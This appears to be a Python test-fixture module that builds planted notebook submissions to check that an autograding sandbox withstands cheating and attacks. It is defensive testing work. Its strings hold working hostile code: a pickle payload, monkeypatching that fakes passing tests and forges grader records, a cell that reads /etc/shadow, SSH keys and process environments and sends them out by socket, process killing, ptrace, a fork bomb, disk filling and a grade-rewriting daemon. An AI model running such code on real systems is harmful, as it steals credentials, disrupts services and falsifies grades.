"""Planted submissions for tests/test_grading.py, made from the built solution notebooks.

Each planted notebook is the solution, the blank student notebook, or the solution with a
planted wrong answer for every question (``all_wrong``), with one specific edit: a cell added
(a cheat, an attack on the judge, a hostile attempt, a broken cell, saved outputs) or a typical
wrong answer taken from the master's own planted ones (``exercises/masters/<name>.planted/``),
run after the solution's cells so that it replaces the right answer. A cheat or an attack that
could *gain* points starts from blank or wrong answers (any point it gets is stolen); one that
could *cost* points (an early ``done``, a fork holding the kernel's sockets) starts from the
solution (it must keep every point).
"""

from __future__ import annotations

import base64
import copy
import csv
import json
from pathlib import Path

import nbformat
import numpy as np
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from exercises.tools import check_planted, probe


def requirement_closure(names) -> list[str]:
    """ "name==version" of the installed distributions names need, dependencies included (the
    versions of this environment, i.e. requirements.lock)."""
    from importlib.metadata import distribution

    pins: dict[str, str] = {}
    todo = list(names)
    while todo:
        name = canonicalize_name(todo.pop())
        if name in pins:
            continue
        dist = distribution(name)
        pins[name] = dist.version
        for text in dist.requires or []:
            req = Requirement(text)
            if req.marker is None or req.marker.evaluate({"extra": ""}):
                todo.append(req.name)
    return [f"{n}=={v}" for n, v in sorted(pins.items())]


def load(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def insert_cell(nb: nbformat.NotebookNode, index: int, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    cell["id"] = f"planted-{index}-{len(nb.cells)}"
    nb.cells.insert(index, cell)
    return nb


def first_answer_cell(nb: nbformat.NotebookNode) -> int:
    """Index just after the notebook's `import numpy as np` cell (before the first answer)."""
    (index,) = [i for i, c in enumerate(nb.cells) if c.source.strip() == "import numpy as np"]
    return index + 1


def check_cell(nb: nbformat.NotebookNode, question: str) -> int:
    """Index of the `grader.check("<question>")` cell."""
    (index,) = [i for i, c in enumerate(nb.cells) if c.source == f'grader.check("{question}")']
    return index


def write(nb: nbformat.NotebookNode, path: Path) -> Path:
    nbformat.write(nb, path)
    return path


def read_csv(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return {row["file"]: row for row in csv.DictReader(f)}


def answer_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """A copy of nb with source run last: it replaces the answer it redefines, as the planted
    wrong answers are run by exercises/tools/check_planted.py (the probes run after the last
    cell)."""
    return insert_cell(nb, len(nb.cells), source)


def plants_by_question(name: str) -> dict[str, list[Path]]:
    """Question -> its planted wrong answers (exercises/masters/<name>.planted/q*_*.py)."""
    found: dict[str, list[Path]] = {}
    for path in check_planted.planted_files(name):
        found.setdefault(check_planted.planted_question(path), []).append(path)
    return found


def wrong_answer(sol: nbformat.NotebookNode, plant: Path) -> nbformat.NotebookNode:
    """The solution with one planted wrong answer in place of the right one."""
    return answer_cell(sol, plant.read_text(encoding="utf-8"))


def all_wrong(sol: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    """The solution with a planted wrong answer for every graded question (the first of each)."""
    for plants in plants_by_question(name).values():
        sol = wrong_answer(sol, plants[0])
    return sol


def with_saved_plots(nb: nbformat.NotebookNode, megabytes: int) -> nbformat.NotebookNode:
    """nb with `megabytes` of saved PNG outputs (incompressible, as real plots are) spread over
    its code cells, as a student who ran every cell many times would hand it in."""
    nb = copy.deepcopy(nb)
    cells = [c for c in nb.cells if c.cell_type == "code"]
    rng = np.random.default_rng(0)
    per_image = 2**20  # 1 MiB of PNG, about 1.4 MB of base64
    for k in range(-(-megabytes * 10**6 // (per_image * 4 // 3))):  # at least megabytes MB
        data = base64.b64encode(rng.bytes(per_image)).decode("ascii")
        cells[k % len(cells)].outputs.append(
            nbformat.v4.new_output(
                "display_data", data={"image/png": data, "text/plain": "<Figure>"}
            )
        )
    return nb


def _write_all(folder: Path, plants: dict) -> dict:
    expected = {}
    for plant_name, (nb, exp) in plants.items():
        path = folder / f"{plant_name}.ipynb"
        if isinstance(nb, str):
            path.write_text(nb)
        else:
            write(nb, path)
        expected[path.name] = exp
    return expected


def hidden_only_plant(name: str) -> Path:
    """A planted wrong answer that every public test accepts: only the judge's checks fail it
    (as check_planted finds, e.g. a wrong formula that no public test may give away)."""
    for plant in check_planted.planted_files(name):
        failed, public_errors = check_planted.caught_by(name, plant)
        if failed and not public_errors:
            return plant
    raise AssertionError(f"{name}: no planted wrong answer that only the hidden checks catch")


def plant_batch(
    name: str, solution: Path, student: Path, folder: Path, points: dict[str, float]
) -> dict:
    """Honest, wrong, broken submissions, the issue's cheats and attacks on the judge, written
    into folder; return {file: expected}, expected = per-question points and "status" (None:
    "ok" or "error", as long as nothing is gained)."""
    sol, empty = load(solution), load(student)
    full = dict(points)
    zero = dict.fromkeys(full, 0)
    questions = list(full)
    by_question = plants_by_question(name)
    plants: dict[str, tuple[nbformat.NotebookNode | str, dict]] = {
        "solution": (sol, {**full, "status": "ok"}),
        "empty": (empty, {**zero, "status": "ok"}),
        # every cell runs even after one raised: the answers count
        "raises_first": (
            insert_cell(sol, 0, 'raise RuntimeError("broken on purpose")'),
            {**full, "status": "ok"},
        ),
        "not_a_notebook": ('{"cells": [', {**zero, "status": "error"}),
        # the solution with 75 MB of saved plots: graded exactly like the solution
        "saved_plots": (with_saved_plots(sol, 75), {**full, "status": "ok"}),
        # an 8 GiB allocation among right answers: MemoryError in that cell, the rest graded
        "huge_allocation": (
            insert_cell(sol, first_answer_cell(sol), "big = np.ones(2**30)  # 8 GiB"),
            {**full, "status": "ok"},
        ),
        # a right answer that calls the course library's own implementation: full marks for
        # that question (the documented limit), and the course-library flag
        "library_answer": (
            answer_cell(sol, "from scratchlib.gradient import numerical_gradient"),
            {**full, "status": "ok"},
        ),
    }
    for q in dict.fromkeys([questions[1], questions[-1]]):
        plant = by_question[q][0]
        plants[f"wrong_{plant.stem}"] = (wrong_answer(sol, plant), {**full, q: 0, "status": "ok"})
    # a wrong answer that every public test accepts: only hidden checks fail it
    hidden_only = hidden_only_plant(name)
    plants[f"wrong_{hidden_only.stem}"] = (
        wrong_answer(sol, hidden_only),
        {**full, check_planted.planted_question(hidden_only): 0, "status": "ok"},
    )

    # --- the three cheats, on blank answers
    plants["cheat_doctest_patch"] = (
        insert_cell(
            empty,
            first_answer_cell(empty),
            "import doctest\n"
            "doctest.DocTestRunner.summarize = lambda self, verbose=None: "
            "doctest.TestResults(0, self.tries)",
        ),
        {**zero, "status": "ok"},
    )
    plants["cheat_pickle_payload"] = (
        insert_cell(
            empty,
            first_answer_cell(empty),
            "import os\n"
            "import pickle\n"
            "\n"
            "class Payload:\n"
            "    def __reduce__(self):\n"
            "        return (os.system, ('echo forged all-passed report >&2',))\n"
            "\n"
            "_real_dump, _real_dumps = pickle.dump, pickle.dumps\n"
            "pickle.dump = lambda obj, f, *a, **k: _real_dump(Payload(), f, *a, **k)\n"
            "pickle.dumps = lambda obj, *a, **k: _real_dumps(Payload(), *a, **k)",
        ),
        {**zero, "status": "ok"},
    )
    plants["cheat_forge_otter"] = (
        insert_cell(
            empty,
            first_answer_cell(empty),
            "from otter.test_files import abstract_test, exception_test, ok_test\n"
            "\n"
            "def _run(self, env):\n"
            "    self.test_case_results = [\n"
            '        abstract_test.TestCaseResult(test_case=tc, message="", passed=True)\n'
            "        for tc in self.test_cases\n"
            "    ]\n"
            "\n"
            "ok_test.OKTestFile.run = _run\n"
            "exception_test.ExceptionTestFile.run = _run",
        ),
        {**zero, "status": "ok"},
    )
    # tests smuggled in the notebook's metadata: stripped before anything runs
    meta = copy.deepcopy(empty)
    meta.metadata["otter"] = {
        "assignment_name": name,
        "tests": {q: "OK_FORMAT = False\nname = 'q'\npoints = 3\n" for q in full},
    }
    plants["cheat_metadata_tests"] = (meta, {**zero, "status": "ok"})

    # --- attacks on the judge itself, on blank answers: forged data must be right to count
    mime = probe.MIME
    plants["attack_forged_records"] = (
        insert_cell(
            empty,
            len(empty.cells),
            "import json, os, sys\n"
            "from IPython.display import display\n"
            f"MIME = {mime!r}\n"
            "forged = {'value': {'bool': True}}\n"
            "names = ['slope_with_h', 'slope_default_h', 'gradient_of_a_matrix', 'descent',\n"
            "         'factors', 'steps', 'reason', 'one_step', 'gradient_of_a_cube']\n"
            "def forge(*args):\n"
            "    for n in names:\n"
            "        display({MIME: json.dumps({'probe': n, 'result': forged})}, raw=True)\n"
            "        line = json.dumps({'event': 'probe_result', 'probe': n, 'result': forged})\n"
            "        print(line)\n"
            "        sys.__stdout__.write(line + '\\n')\n"
            "    print(json.dumps({'event': 'done'}))\n"
            "forge()\n"
            "get_ipython().events.register('post_run_cell', forge)",
        ),
        {**zero, "status": "ok"},
    )
    plants["attack_patched_harness"] = (
        insert_cell(
            empty,
            len(empty.cells),
            "import builtins, json, sys, types\n"
            "_dumps = json.dumps\n"
            "def _forged_dumps(obj, *a, **k):\n"
            "    if isinstance(obj, dict) and 'result' in obj:\n"
            "        obj = {**obj, 'result': {'value': {'float': 1.0}}}\n"
            "    return _dumps(obj, *a, **k)\n"
            "json.dumps = _forged_dumps\n"
            "_exec = builtins.exec\n"
            "def _patched_exec(code, globals=None, locals=None):\n"
            "    _exec(code, globals) if locals is None else _exec(code, globals, locals)\n"
            "    if isinstance(globals, dict) and 'run_probe' in globals:\n"
            "        globals['run_probe'] = lambda *a, **k: {'value': {'str': 'B'}}\n"
            "builtins.exec = _patched_exec\n"
            "import IPython.display as _real\n"
            "fake = types.ModuleType('IPython.display')\n"
            "def _display(obj, **k):\n"
            "    for mime, text in dict(obj).items():\n"
            "        message = json.loads(text) if isinstance(text, str) else {}\n"
            "        if 'result' in message:\n"
            "            message['result'] = {'value': {'list': []}}\n"
            "        _real.display({mime: _dumps(message)}, **k)\n"
            "fake.display = _display\n"
            "sys.modules['IPython.display'] = fake",
        ),
        {**zero, "status": "ok"},
    )
    # --- attacks that would cost points if they worked: on the solution
    plants["attack_early_done"] = (
        insert_cell(
            sol,
            first_answer_cell(sol),
            "import glob, json, os, sys\n"
            "done = json.dumps({'event': 'done'}) + '\\n'\n"
            "print(done)\n"
            "sys.__stdout__.write(done)\n"
            "for path in glob.glob(f'/proc/{os.getppid()}/fd/*'):\n"
            "    try:\n"
            "        with open(path, 'w') as f:\n"
            "            f.write(done)\n"
            "    except OSError as e:\n"
            "        print('refused', path, e)",
        ),
        {**full, "status": "ok"},
    )
    plants["attack_fork_keeps_sockets"] = (
        insert_cell(
            sol,
            first_answer_cell(sol),
            "import os, time\n"
            "if os.fork() == 0:  # the child holds the kernel's sockets and never lets go\n"
            "    time.sleep(3600)\n"
            "    os._exit(0)",
        ),
        {**full, "status": "ok"},
    )
    return _write_all(folder, plants)


def plant_hostile(
    name: str, solution: Path, folder: Path, targets: dict, points: dict[str, float]
) -> dict:
    """Hostile and tricky-but-honest submissions of assignment name; return {file: expected}.

    targets: absolute paths and values the hostile code aims at (it knows them, as a student
    who guessed them would): home_secret, repo_secret (files), secret (the text), port (a
    listener on 127.0.0.1), out, submissions, scratch (folders), marker (argv of a daemon).
    Each hostile notebook starts from wrong answers: any point it gets is a point stolen.
    """
    sol = load(solution)
    full = dict(points)
    zero = dict.fromkeys(full, 0)
    wrong = all_wrong(sol, name)
    t = {k: str(v) for k, v in targets.items()}
    plants: dict[str, tuple[nbformat.NotebookNode, dict]] = {}

    def hostile(plant: str, source: str, expected: dict, at_end: bool = False) -> None:
        index = len(wrong.cells) if at_end else first_answer_cell(wrong)
        plants[plant] = (insert_cell(wrong, index, source), expected)

    # Reaches out every way it can think of, and shows what it got everywhere it can (printed,
    # raised in a cell error, saved to files):
    # - reads secrets: in your HOME, next to the repository, /etc/shadow, other processes'
    #   environments and command lines;
    # - connects: to the test's listener on 127.0.0.1, to the outside world;
    # - writes: into OUT (a new file, the CSV, another student's verdict), into SUBMISSIONS
    #   (deletes one, edits one), into the other submissions' scratch folders.
    hostile(
        "hostile_reach_out",
        "import glob, os, socket, urllib.request\n"
        "found = []\n"
        f"for path in [{t['home_secret']!r}, {t['repo_secret']!r}, '/etc/shadow',\n"
        "             os.path.expanduser('~/.ssh/id_rsa'), '/root/.bash_history',\n"
        "             *glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline')]:\n"
        "    try:\n"
        "        found.append(open(path, errors='replace').read())\n"
        "    except OSError as e:\n"
        "        print('denied', path, e)\n"
        "found.append(repr(dict(os.environ)))\n"
        "loot = '\\n'.join(found)\n"
        "print(loot)\n"
        "open('loot.txt', 'w').write(loot)\n"
        "for target in [('127.0.0.1', " + t["port"] + "), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(target, timeout=3).sendall(loot.encode())\n"
        "        print('connected', target)\n"
        "    except OSError as e:\n"
        "        print('no connection', target, e)\n"
        "try:\n"
        f"    urllib.request.urlopen('http://127.0.0.1:{t['port']}/', timeout=3)\n"
        "except OSError as e:\n"
        "    print('no http', e)\n"
        f"out, subs, scratch = {t['out']!r}, {t['submissions']!r}, {t['scratch']!r}\n"
        "attempts = [\n"
        "    lambda: open(os.path.join(out, 'pwned.txt'), 'w').write(loot),\n"
        "    lambda: open(os.path.join(out, 'grades.csv'), 'w').write('pwned'),\n"
        "    lambda: open(os.path.join(out, 'verdicts', 'solution.json'), 'w').write('pwned'),\n"
        "    lambda: os.remove(os.path.join(subs, 'solution.ipynb')),\n"
        "    lambda: open(os.path.join(subs, 'empty.ipynb'), 'a').write('pwned'),\n"
        "    *[lambda d=d: open(os.path.join(d, 'pwned.txt'), 'w').write('pwned')\n"
        "      for d in glob.glob(os.path.join(scratch, '*')) + [scratch]],\n"
        "]\n"
        "for attempt in attempts:\n"
        "    try:\n"
        "        attempt()\n"
        "        print('wrote')\n"
        "    except OSError as e:\n"
        "        print('refused', e)\n"
        "def numerical_diff(f, x, h=1e-4):  # what the grader calls: show the loot there too\n"
        "    raise RuntimeError(loot[-3000:])\n"
        "raise RuntimeError(loot[-2000:])",
        {**zero, "status": "ok"},
        at_end=True,
    )
    # Signals: its parent, its parent's group, and any process that looks like the grader.
    hostile(
        "hostile_signals",
        "import os, signal\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    if b'pytest' in cmd or b'exercises.tools.grade' in cmd or b'bwrap' in cmd:\n"
        "        for kill in (os.kill, os.killpg):\n"
        "            try:\n"
        "                kill(int(pid), signal.SIGKILL)\n"
        "            except OSError as e:\n"
        "                print('refused', pid, e)\n"
        "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n"
        "os.kill(os.getppid(), signal.SIGKILL)",
        {**zero, "status": "error"},
    )
    # Through ctypes: fork, ptrace its parent, kill pid 1 (the sandbox's init).
    hostile(
        "hostile_ctypes",
        "import ctypes, os, signal\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.fork() == 0:\n"
        "    os._exit(0)\n"
        "print('ptrace', libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())  # ATTACH\n"
        "print('kill', libc.kill(1, signal.SIGKILL), ctypes.get_errno())",
        {**zero, "status": "ok"},
    )
    # A fork bomb (capped at 3000 children, in case the limits fail on a shared machine).
    hostile(
        "hostile_fork_bomb",
        "import os, time\n"
        "children = 0\n"
        "while children < 3000:\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        continue  # forks without end\n"
        "    if pid == 0:\n"
        "        time.sleep(120)\n"
        "        os._exit(0)\n"
        "    children += 1",
        {**zero, "status": "error"},
    )
    # Fills /tmp, its HOME and its working folder (16 MB files, under the file-size limit).
    hostile(
        "hostile_fill_disk",
        "import os\n"
        "for folder in ['/tmp', os.path.expanduser('~'), '.']:\n"
        "    try:\n"
        "        for i in range(200):\n"
        "            with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n"
        "                f.write(b'x' * 2**24)\n"
        "    except OSError as e:\n"
        "        print('full', folder, e)",
        {**zero, "status": None},
    )
    # A daemon (double fork + setsid) that outlives the notebook and tries to rewrite the CSV.
    hostile(
        "hostile_daemon",
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        if os.fork() == 0:\n"
        f"            os.execv('/bin/sleep', {t['marker'].split()!r})\n"
        "        time.sleep(15)\n"
        f"        open(os.path.join({t['out']!r}, 'grades.csv'), 'w').write('pwned')\n"
        "    os._exit(0)",
        {**zero, "status": "ok"},
    )
    # numpy, math and builtins patched every way (what fooled tests that ran in the kernel)
    hostile(
        "cheat_patch_everything",
        "import builtins, math, sys, types\n"
        "import numpy.testing\n"
        "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "math.isclose = lambda *a, **k: True\n"
        "builtins.abs = lambda x: 0.0\n"
        "builtins.all = lambda x: True\n"
        "_fake = types.ModuleType('builtins')\n"
        "_fake.__dict__.update(vars(builtins))\n"
        "sys.modules['builtins'] = _fake",
        {**zero, "status": "ok"},
    )

    # Honest but unusual, all in one notebook: no otter metadata at all, a syntax error in an
    # extra cell, a mid-notebook chdir.
    odd = insert_cell(sol, first_answer_cell(sol) + 2, "import os\nos.chdir('/tmp')")
    odd = insert_cell(odd, first_answer_cell(odd), "def broken(:\n    pass")
    odd.metadata.pop("otter", None)
    plants["honest_oddities"] = (odd, {**full, "status": "ok"})
    return _write_all(folder, plants)


def otter_metadata(path: Path) -> dict:
    return json.loads(path.read_text())["metadata"].get("otter", {})
